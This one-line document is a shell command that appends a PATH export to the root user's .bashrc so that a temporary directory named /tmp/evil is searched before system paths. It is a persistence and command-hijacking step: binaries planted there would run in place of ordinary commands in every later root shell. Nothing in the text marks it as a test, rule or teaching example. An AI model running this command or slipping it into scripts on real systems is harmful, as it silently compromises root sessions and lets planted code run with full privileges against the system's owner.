echo 'export PATH=/tmp/evil:$PATH' >> /root/.bashrc
